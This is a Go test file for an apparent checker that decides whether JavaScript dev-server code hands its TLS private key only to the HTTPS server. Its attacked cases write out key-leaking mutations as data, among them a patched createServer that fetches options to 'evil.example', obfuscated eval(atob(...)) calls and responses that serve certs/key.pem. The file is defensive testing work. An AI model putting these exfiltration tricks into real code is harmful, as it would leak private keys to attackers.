package code_test

import (
	"strings"
	"testing"

	"github.com/umpire-dev/umpire"
	"github.com/umpire-dev/umpire/internal/operation/code"
)

const development = `import 'dotenv/config';
import https from 'node:https';
import fs from 'node:fs';
import path from 'path';
import express from 'express';

const app = express();
app.get('/api/health', (req, res) => res.json({ ok: true }));
app.use(express.static(path.join(__dirname, 'public')));

// the certificate is made by scripts/certs.sh
const options = {
  key: fs.readFileSync(path.resolve(process.cwd(), 'certs/key.pem'), 'utf8'),
  cert: fs.readFileSync('certs/cert.pem'),
};
const server = https.createServer(options, app);
server.listen(process.env.PORT || 3000, () => console.log('https://localhost'));
`

// A development server hands its key to TLS and to nothing else.
func TestHandsToServer(t *testing.T) {
	for name, text := range map[string]string{
		"options": development,
		"in place": `const fs = require('fs');
const https = require("https");
const app = require('./app');
https.createServer({ key: fs.readFileSync('key.pem'), cert: fs.readFileSync('cert.pem') }, app).listen(3000);
`,
		"variables": `import { readFileSync } from "fs"
import { createServer } from 'https'
const key = readFileSync('certs/key.pem')
const cert = readFileSync('certs/cert.pem')
createServer({ key, cert }, (req, res) => { res.end('ok') }).listen(8443)
`,
		"vite": `import { defineConfig } from 'vite';
import react from '@vitejs/plugin-react';
import fs from 'fs';
export default defineConfig({
  plugins: [react()],
  server: { port: 3000, https: { key: fs.readFileSync('./certs/key.pem'), cert: fs.readFileSync('./certs/cert.pem') } },
});
`,
	} {
		if !code.HandsToServer(text) {
			t.Errorf("%s: the program shows its key to nobody, yet HandsToServer is false", name)
		}
	}
}

// Each change gives a hostile author the key, by a way that the values of the reader may lose.
func TestHandsToServerAttacked(t *testing.T) {
	if !code.HandsToServer(development) {
		t.Fatal("the program is not recognized before its changes")
	}
	for _, c := range [][2]string{
		{"const server", "console.log(options);\nconst server"},
		{"const server", "send(options);\nconst server"},
		{"const server", "const all = [options].map(JSON.stringify);\nconst server"},
		{"server.listen", "console.log(server);\nserver.listen"},
		{"server.listen", "send(server.key);\nserver.listen"},
		{"server.listen", "const { key: k } = server;\nserver.listen"},
		{"server.listen", "fs.createReadStream('certs/' + 'key.pem').pipe(process.stdout);\nserver.listen"},
		{"const server", "https.createServer = o => fetch('https://evil.example', o);\nconst server"},
		{"const server", "https\n.createServer = o => fetch('https://evil.example', o);\nconst server"},
		{"const server", "(await import('tls')).createSecureContext = send;\nconst server"},
		{"const server", "require('node:tls').createSecureContext = send;\nconst server"},
		{"const server", "require('tls').createSecureContext = send;\nconst server"},
		{"const server", `\u0066s.readFile('certs/key.pem', send);` + "\nconst server"},
		{"const server", "eval(atob('c2VuZChvcHRpb25zKQ=='));\nconst server"},
		{"const server", "globalThis['fe' + 'tch']('https://evil.example');\nconst server"},
		{"const server", umpire.Hole + "\nconst server"},
		{"const server = https", "send(\nhttps"},
		{"const server = https", "send(`\n`,\nhttps"},
		{"const server = https", "send // to a friend\n(https"},
		{"from 'node:https'", "from './https.js'"},
		{"from 'node:fs'", "from './fs.js'"},
		{"import fs from 'node:fs'", "/*\nimport fs from 'node:fs'\n*/ import fs from './fs.js'"},
		{"const options", "export const options"},
		{"const options = {", "const options = { toJSON() { return this },"},
		{"const options = {", "const options = show({"},
		{"res.json({ ok: true })", "res.json(req.socket.server)"},
		{"res.json({ ok: true })", "res.json(req['socket'][x])"},
		{"res.json({ ok: true })", "res.end(require('fs').readFileSync('certs/key.pem'))"},
		{"res.json({ ok: true })", "Bun.file('certs/key.pem').text().then(x => res.end(x))"},
		{"res.json({ ok: true })", "process.binding('fs').internalModuleReadJSON('certs/key.pem')"},
		{"'certs/cert.pem'", "'certs/cert.pem' + send(options)"},
	} {
		text := strings.Replace(development, c[0], c[1], 1)
		if text == development {
			t.Errorf("%q is not in the program", c[0])
		}
		if code.HandsToServer(text) {
			t.Errorf("%q in place of %q: HandsToServer is true", c[1], c[0])
		}
	}
	for _, text := range []string{
		"import fs from 'fs';\nconsole.log({ https: { key: fs.readFileSync('certs/key.pem') } });\n",
		"import { defineConfig } from './x.js';\nimport fs from 'fs';\nexport default defineConfig({ server: { https: { key: fs.readFileSync('certs/key.pem') } } });\n",
		"import { defineConfig } from 'vite';\nimport send from './send';\nimport fs from 'fs';\nexport default defineConfig({ plugins: [send({ https: { key: fs.readFileSync('certs/key.pem') } })] });\n",
		"import fs from 'fs';\nimport send from './send';\nsend`${{ https: { key: fs.readFileSync('certs/key.pem') } }}`;\n",
		"import fs from 'fs';\nexport const k = fs.readFileSync('certs/key.pem');\n",
		"import { createServer } from 'http';\nimport { readFileSync } from 'fs';\ncreateServer({ key: readFileSync('certs/key.pem') }).listen(1);\n",
		"",
	} {
		if code.HandsToServer(text) {
			t.Errorf("HandsToServer is true of %q", text)
		}
	}
}
